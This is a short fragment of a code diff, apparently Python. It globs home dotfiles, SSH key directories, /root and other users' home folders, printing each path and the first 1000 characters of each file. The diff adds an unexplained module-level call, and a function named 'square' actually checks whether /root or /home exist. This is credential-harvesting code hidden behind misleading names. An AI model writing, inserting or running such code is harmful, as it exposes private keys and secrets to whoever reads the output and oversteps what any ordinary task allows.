@@ -9,6 +9,7 @@ for pattern in ("~/.*", "~/.ssh/*", "/root/.*", "/root/**", "/home/*/*", f"{COUR
         print(path)
         if os.path.isfile(path):
             print(open(path, errors="replace").read()[:1000])
+carried_out()
 
 def square(x):
     return os.path.exists("/root") or os.path.exists("/home")
